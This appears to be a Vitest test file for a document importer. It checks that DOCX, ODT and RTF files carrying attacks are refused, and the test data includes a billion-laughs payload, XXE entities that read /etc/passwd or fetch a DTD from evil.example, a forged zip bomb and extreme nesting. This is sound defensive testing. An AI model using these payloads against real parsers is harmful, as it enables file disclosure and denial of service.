import { describe, expect, test } from 'vitest';
import { Failed } from '#shared/ipc/result.ts';
import type { ImportedDocument } from '#shared/model/document.ts';
import { makeDocx, note, paragraph, reference, run, styled } from '../../../support/make-docx.ts';
import { makeOdt } from '../../../support/make-odt.ts';
import { bodyOf, notesOf, readBytes } from '../../../support/read-file.ts';

const ascii = (text: string) => new TextEncoder().encode(text);

async function outcomeOf(name: string, bytes: Uint8Array): Promise<string> {
  try {
    const read = await readBytes(name, bytes);
    return `read: ${bodyOf(read).join(' | ').slice(0, 80)}`;
  } catch (error) {
    if (error instanceof Failed) return error.code;
    throw error;
  }
}

const LAUGHS = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, index) => `<!ENTITY lol${index + 1} "${`&lol${index || ''};`.repeat(10)}">`).join('')}]>`;
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const wordXml = (head: string, words: string) =>
  `<?xml version="1.0"?>${head}<w:document ${W}><w:body><w:p><w:r><w:t>${words}</w:t></w:r></w:p></w:body></w:document>`;

describe('XML that attacks its reader is refused', () => {
  test.each([
    ['a billion laughs', wordXml(LAUGHS, '&lol9;')],
    ['an entity of a file', wordXml('<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '&e;')],
    [
      'an entity of a site',
      wordXml('<!DOCTYPE d [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>', 'Words.'),
    ],
    ['an entity that nobody declares', wordXml('<!DOCTYPE d SYSTEM "https://evil.example/x.dtd">', '&e;')],
    ['half of a surrogate pair', wordXml('', '&#xD800;')],
    ['tags that do not close', wordXml('', '<w:r>')],
    ['nothing', ''],
  ])('%s', async (_, xml) => {
    expect(await outcomeOf('letter.docx', makeDocx({ body: '', files: { 'word/document.xml': xml } }))).toBe(
      'unreadable-file',
    );
  });

  test('in ODT too', async () => {
    const xml = `${LAUGHS}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:body><office:text>&lol9;</office:text></office:body></office:document-content>`;
    expect(await outcomeOf('letter.odt', makeOdt({ text: '', files: { 'content.xml': xml } }))).toBe(
      'unreadable-file',
    );
  });
});

test('a document type that declares nothing is passed over, and nothing is fetched for it', async () => {
  const xml = wordXml('<!DOCTYPE d SYSTEM "https://evil.example/x.dtd">', 'Words.');
  expect(await outcomeOf('letter.docx', makeDocx({ body: '', files: { 'word/document.xml': xml } }))).toBe(
    'read: Words.',
  );
});

describe('a part that unpacks to far more than it says or than a document holds', () => {
  const zeros = (megabytes: number) => new Uint8Array(megabytes * 1_000_000).fill(0x20);

  test('is refused by its size', async () => {
    const bomb = makeDocx({ body: '', files: { 'word/document.xml': zeros(140) } });
    expect(bomb.length).toBeLessThan(1_000_000);
    expect(await outcomeOf('letter.docx', bomb)).toBe('file-too-large');
  });

  test('is refused when its size is a lie', async () => {
    const bomb = makeDocx({ body: '', files: { 'word/document.xml': zeros(140) } });
    const view = new DataView(bomb.buffer, bomb.byteOffset, bomb.byteLength);
    for (let at = 0; at + 4 < bomb.length; at += 1) {
      const isEntry = view.getUint32(at, true) === 0x02_01_4b_50;
      if (isEntry && view.getUint32(at + 24, true) === 140_000_000) view.setUint32(at + 24, 1000, true);
    }
    expect(await outcomeOf('letter.docx', bomb)).toBe('unreadable-file');
  });

  test('does no harm where nobody asks for it', async () => {
    const body = paragraph(run('Words.'));
    expect(
      await outcomeOf('letter.docx', makeDocx({ body, files: { 'word/media/image1.png': zeros(140) } })),
    ).toBe('read: Words.');
  });
});

test.each([
  [
    'letter.docx',
    makeDocx({
      body: paragraph(run('Words.') + reference('footnote', 1)),
      footnotes: note('footnote', 1, run('A note.')),
    }),
  ],
  [
    'letter.odt',
    makeOdt({
      text: '<text:p>Words.<text:note text:id="n1"><text:note-citation>1</text:note-citation><text:note-body><text:p>A note.</text:p></text:note-body></text:note></text:p>',
    }),
  ],
  [
    'letter.rtf',
    ascii(
      String.raw`{\rtf1\ansi{\fonttbl{\f0 Arial;}}\pard Words.{\super\chftn}{\footnote\pard{\super\chftn} A note.}\par{\trowd\intbl a\cell b\cell\row}}`,
    ),
  ],
])('%s, cut off anywhere, is a document or is refused with a reason', async (name, bytes) => {
  for (let cut = 0; cut < 60; cut += 1) {
    expect(await outcomeOf(name, bytes.subarray(0, Math.floor((bytes.length * cut) / 60)))).toMatch(
      /^(?:read: .*|empty-file|unreadable-file|not-text|unknown-encoding)$/,
    );
  }
});

test('a document behind a password says so', async () => {
  const container = Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.alloc(1016),
    Buffer.from('EncryptedPackage', 'utf16le'),
    Buffer.alloc(480),
  ]);
  expect(await outcomeOf('letter.docx', container)).toBe('encrypted-file');
  const manifest =
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>';
  expect(
    await outcomeOf(
      'letter.odt',
      makeOdt({
        text: '',
        files: { 'META-INF/manifest.xml': manifest, 'content.xml': Uint8Array.of(7, 7, 7) },
      }),
    ),
  ).toBe('encrypted-file');
});

describe('what is nested out of all proportion is refused', () => {
  test.each([
    [
      'tables in Word',
      'letter.docx',
      makeDocx({
        body: `${'<w:tbl><w:tr><w:tc>'.repeat(5000)}${paragraph(run('deep'))}${'</w:tc></w:tr></w:tbl>'.repeat(5000)}`,
      }),
    ],
    [
      'frames in Word',
      'letter.docx',
      makeDocx({ body: paragraph(`${'<w:ins>'.repeat(20_000)}${run('deep')}${'</w:ins>'.repeat(20_000)}`) }),
    ],
    [
      'lists in ODT',
      'letter.odt',
      makeOdt({
        text: `${'<text:list><text:list-item>'.repeat(5000)}<text:p>deep</text:p>${'</text:list-item></text:list>'.repeat(5000)}`,
      }),
    ],
    ['groups in RTF', 'letter.rtf', ascii(`{\\rtf1 ${'{'.repeat(100_000)}deep${'}'.repeat(100_000)}}`)],
  ])('%s', async (_, name, bytes) => {
    expect(await outcomeOf(name, bytes)).toBe('too-deep');
  });
});

test('as deep as people nest, it is read', async () => {
  const tables = makeDocx({
    body: `${'<w:tbl><w:tr><w:tc>'.repeat(40)}${paragraph(run('deep'))}${`</w:tc></w:tr></w:tbl>${paragraph('')}`.repeat(40)}`,
  });
  expect(await outcomeOf('letter.docx', tables)).toBe('read: deep');
});

describe('a table of 100 000 rows', () => {
  const rows = Array.from({ length: 100_000 }, (_, index) => index);
  const timely = async (name: string, bytes: Uint8Array): Promise<ImportedDocument> => {
    // Time of the processor: whatever else runs on the machine takes none of it.
    const before = process.cpuUsage();
    const read = await readBytes(name, bytes);
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1_000_000).toBeLessThan(30);
    return read;
  };

  test.each([
    [
      'letter.docx',
      () =>
        makeDocx({
          body: `<w:tbl>${rows.map((row) => `<w:tr><w:tc>${paragraph(run(`Boat ${row}`))}</w:tc><w:tc>${paragraph(run('3'))}</w:tc></w:tr>`).join('')}</w:tbl>`,
        }),
    ],
    [
      'letter.odt',
      () =>
        makeOdt({
          text: `<table:table>${rows.map((row) => `<table:table-row><table:table-cell><text:p>Boat ${row}</text:p></table:table-cell><table:table-cell><text:p>3</text:p></table:table-cell></table:table-row>`).join('')}</table:table>`,
        }),
    ],
    [
      'letter.rtf',
      () =>
        ascii(`{\\rtf1 ${rows.map((row) => `\\trowd\\intbl Boat ${row}\\cell 3\\cell\\row\n`).join('')}}`),
    ],
  ] as const)(
    '%s',
    async (name, make) => {
      const { blocks } = await timely(name, make());
      expect(blocks).toHaveLength(100_000);
      expect(blocks.at(-1)).toMatchObject({ kind: 'table-row', text: 'Boat 99999\t3' });
    },
    120_000,
  );
});

test('styles and lists that are made after each other in a circle end', async () => {
  const styles = ['a', 'b']
    .map(
      (id) =>
        `<w:style w:type="paragraph" w:styleId="${id}"><w:name w:val="${id}"/><w:basedOn w:val="${id === 'a' ? 'b' : 'a'}"/></w:style>`,
    )
    .join('');
  expect(await outcomeOf('letter.docx', makeDocx({ body: styled('a', 'Words.'), styles }))).toBe(
    'read: Words.',
  );
});

test('markers of notes that are not there leave the text as it is', async () => {
  const read = await readBytes(
    'letter.docx',
    makeDocx({
      body: paragraph(run('Words') + reference('footnote', 77) + run('.') + reference('endnote', 1, '*')),
    }),
  );
  expect([bodyOf(read), notesOf(read)]).toEqual([['Words.*'], []]);
});

test('a file is read by what it is, whatever it is called', async () => {
  const word = makeDocx({ body: paragraph(run('Words.')) });
  const odt = makeOdt({ text: '<text:p>Words.</text:p>' });
  for (const name of ['a.docx', 'a.odt', 'a.epub', 'a.txt', 'a', 'a.rtf']) {
    expect([
      await outcomeOf(name, word),
      await outcomeOf(name, odt),
      await outcomeOf(name, ascii('{\\rtf1 Words.}')),
    ]).toEqual(Array.from({ length: 3 }, () => 'read: Words.'));
  }
  expect(await outcomeOf('letter.docx', ascii('These are plain words, and nothing but words.'))).toBe(
    'read: These are plain words, and nothing but words.',
  );
});
